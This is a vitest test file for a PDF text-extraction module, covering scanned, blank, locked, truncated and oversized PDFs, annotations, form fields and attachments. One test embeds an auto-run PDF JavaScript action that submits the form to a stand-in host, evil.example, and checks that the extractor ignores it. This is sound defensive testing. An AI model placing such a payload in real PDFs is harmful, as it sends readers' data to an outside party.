import { describe, expect, it } from 'vitest';
import { readPdf } from '../../../shared/extract/pdf-document.ts';
import { openBytes, readDocument, refusalOf, textsOf } from './extract.ts';
import { describeBlocks, loadFixture } from './harbour-texts.ts';
import { makePdf, writeLines } from './make-pdf.ts';

/** A page that is one grey picture, as scanners make them. */
const SCANNED = {
  content: 'q 595 0 0 842 0 0 cm /I Do Q',
  resources: '/XObject << /I 10 0 R >>',
};
const PICTURE = {
  entries: '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8',
  stream: 'x',
};
const NO_LAYER = 'This PDF has no text layer: its pages are pictures. Text recognition (OCR) can give it one.';

describe('a PDF without words', () => {
  it('is kept and says that it has no text layer, where its pages are pictures', async () => {
    const { draft } = await readDocument(makePdf([SCANNED, SCANNED], { objects: [PICTURE] }), 'scan.pdf');
    expect(draft).toMatchObject({ text: '', blocks: [], emptyReason: NO_LAYER, title: { value: 'scan' } });
  });

  it('is kept and says that it is empty, where nothing is drawn', async () => {
    const { draft } = await readDocument(makePdf([{ content: '' }]), 'blank.pdf');
    expect(draft).toMatchObject({ text: '', emptyReason: 'The page of this PDF is empty.' });
    const { draft: two } = await readDocument(makePdf([{ content: '' }, { content: '' }]), 'blank.pdf');
    expect(two.emptyReason).toBe('The 2 pages of this PDF are empty.');
  });

  it('is kept and says that its letters cannot be read, where its fonts say wrongly what they are', async () => {
    const { draft } = await readDocument(await loadFixture('garbled-hebrew.pdf'), 'garbled.pdf');
    expect(draft.text).toBe('');
    expect(draft.emptyReason).toMatch(/^The letters of this PDF cannot be read: .*\(OCR\) can give it a text\.$/);
  });

  it('names the pages that are not in the text, where others are', async () => {
    const pages = [{ content: writeLines(['The report begins on this page.']) }, SCANNED, SCANNED];
    const { draft } = await readDocument(makePdf(pages, { objects: [PICTURE] }), 'mixed.pdf');
    expect(draft.text).toBe('The report begins on this page.');
    expect(draft.notes).toEqual(['Pages 2 and 3 of 3 are not in the text: there is no text layer, only a picture.']);
  });
});

describe('a PDF that is not read', () => {
  it('is refused as locked where it wants a password', async () => {
    expect(await refusalOf(await loadFixture('locked.pdf'), 'locked.pdf')).toBe(
      'The PDF is locked with a password. Open it with its program, save or print it without one, and import that.',
    );
  });

  it('is refused as cut off where its end is missing and nothing can be read', async () => {
    const whole = await loadFixture('print-article.pdf');
    expect(await refusalOf(whole.slice(0, 3_000), 'half.pdf')).toBe(
      'The PDF is cut off: its end is missing, and no page can be read without it. Fetch it again.',
    );
  });

  it('is read as far as it goes where its end is missing, and says so', async () => {
    const whole = makePdf([
      { content: writeLines(['The first page is whole.']) },
      { content: writeLines(['The second too.']) },
    ]);
    const end = new TextDecoder('latin1').decode(whole).indexOf('startxref');
    const { draft } = await readDocument(whole.slice(0, end), 'half.pdf');
    expect(textsOf(draft)).toEqual(['The first page is whole.', 'The second too.']);
    expect(draft.notes).toEqual(['The file is cut off: its end is missing. What it still holds was read.']);
  });

  it('is refused as damaged where it is no PDF behind its first line', async () => {
    expect(await refusalOf('%PDF-1.7\nnothing else, but an end\n%%EOF\n', 'broken.pdf')).toMatch(
      /^The PDF is damaged and cannot be read \(/,
    );
  });

  it('is refused where it has more pages than are read', async () => {
    const pages = Array.from({ length: 2_001 }, () => ({ content: '' }));
    expect(await refusalOf(makePdf(pages), 'endless.pdf')).toBe(
      'The PDF has 2,001 pages; up to 2,000 are read. Print the pages that matter into a PDF of their own.',
    );
  });

  it('is refused where reading takes too long, since half a text would mislead', async () => {
    const slow = {
      content: writeLines(Array.from({ length: 400 }, (_, line) => `Line ${line} of a page that goes on.`)),
    };
    const read = await readPdf(makePdf(Array.from({ length: 60 }, () => slow)), { timeLimit: 100 });
    expect(read).toMatchObject({ status: 'refused' });
    expect('reason' in read ? read.reason : '').toMatch(
      /^After 0\.1 seconds only \d+ of the 60 pages of the PDF were read; half a text would mislead\./,
    );
  });

  it('is no danger by what it could run or load', async () => {
    const catalog =
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>';
    const { draft } = await readDocument(
      makePdf([{ content: writeLines(['Only these words.']) }], { catalog }),
      'a.pdf',
    );
    expect(draft.text).toBe('Only these words.');
  });
});

describe('what was put on a page of a PDF', () => {
  /** Draws words in a box of its own. */
  const drawn = (words: string) => ({
    entries: '/Type /XObject /Subtype /Form /BBox [0 0 200 30] /Resources << /Font << /F1 3 0 R >> >>',
    stream: `BT /F1 11 Tf 2 10 Td (${words}) Tj ET`,
  });

  it('is a paragraph of its own where it is a note in plain sight, and no part of the line beside it', async () => {
    const note =
      '<< /Type /Annot /Subtype /FreeText /Rect [300 752 500 782] /Contents (This is what the editor said.) /AP << /N 10 0 R >> >>';
    const page = {
      content: writeLines(['Here is the text of the page.', 'It goes on in a second line.']),
      annotations: [note],
    };
    const { draft } = await readDocument(
      makePdf([page], { objects: [drawn('This is what the editor said.')] }),
      'a.pdf',
    );
    expect(describeBlocks(draft)).toEqual([
      'paragraph: Here is the text of the page. It goes on in a second line.',
      'paragraph: This is what the editor said.',
    ]);
    expect(draft.notes).toBeUndefined();
  });

  it('is said to be left out where it is a comment that must be opened', async () => {
    const comment = '<< /Type /Annot /Subtype /Text /Rect [300 752 320 772] /Contents (Is this true?) >>';
    const page = { content: writeLines(['Here is the text of the page.']), annotations: [comment] };
    const { draft } = await readDocument(makePdf([page]), 'a.pdf');
    expect(draft.text).toBe('Here is the text of the page.');
    expect(draft.notes).toEqual(['The file holds comments beside the text; they were left out.']);
  });

  it('belongs to the line where it is what somebody wrote into a form', async () => {
    const field =
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ilan Korvat) /Rect [110 750 310 780] /AP << /N 10 0 R >> >>';
    const page = { content: writeLines(['Name:']), annotations: [field] };
    const catalog = '/AcroForm << /Fields [] >>';
    const { draft } = await readDocument(makePdf([page], { catalog, objects: [drawn('Ilan Korvat')] }), 'form.pdf');
    expect(draft.text).toBe('Name: Ilan Korvat');
  });
});

describe('the files that are attached to a PDF', () => {
  const file = (name: string, words: string) => [
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 11 0 R >> >>`,
    { entries: '/Type /EmbeddedFile', stream: words },
  ];
  const cover = { content: writeLines(['These documents belong together.']) };

  it('come with it as files of their own, those of a portfolio and those pinned to a page', async () => {
    const catalog = '/Names << /EmbeddedFiles << /Names [(one) 10 0 R] >> >>';
    const read = await readDocument(
      makePdf([cover], { catalog, objects: file('report.txt', 'The first report') }),
      'p.pdf',
    );
    expect(read.draft.text).toBe('These documents belong together.');
    expect(read.parts.map(({ role, name, bytes }) => [role, name, new TextDecoder().decode(bytes)])).toEqual([
      ['attachment', 'report.txt', 'The first report'],
    ]);
    const pinned = '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 10 0 R /Contents (report.txt) >>';
    const page = { ...cover, annotations: [pinned] };
    const { parts, draft } = await readDocument(
      makePdf([page], { objects: file('report.txt', 'The first report') }),
      'p.pdf',
    );
    expect(parts.map(({ name }) => name)).toEqual(['report.txt']);
    expect(draft.notes).toBeUndefined();
  });

  it('come once where they are pinned and attached', async () => {
    const catalog = '/Names << /EmbeddedFiles << /Names [(one) 10 0 R (two) 10 0 R] >> >>';
    const { parts } = await readDocument(makePdf([cover], { catalog, objects: file('a.txt', 'words') }), 'p.pdf');
    expect(parts).toHaveLength(1);
  });

  it('come also with a cover that is empty', async () => {
    const catalog = '/Names << /EmbeddedFiles << /Names [(one) 10 0 R] >> >>';
    const made = makePdf([{ content: '' }], { catalog, objects: file('a.txt', 'words') });
    const opened = await openBytes(made, 'p.pdf');
    expect(opened).toMatchObject({
      status: 'read',
      draft: { text: '' },
      parts: [{ role: 'attachment', name: 'a.txt' }],
    });
  });
});
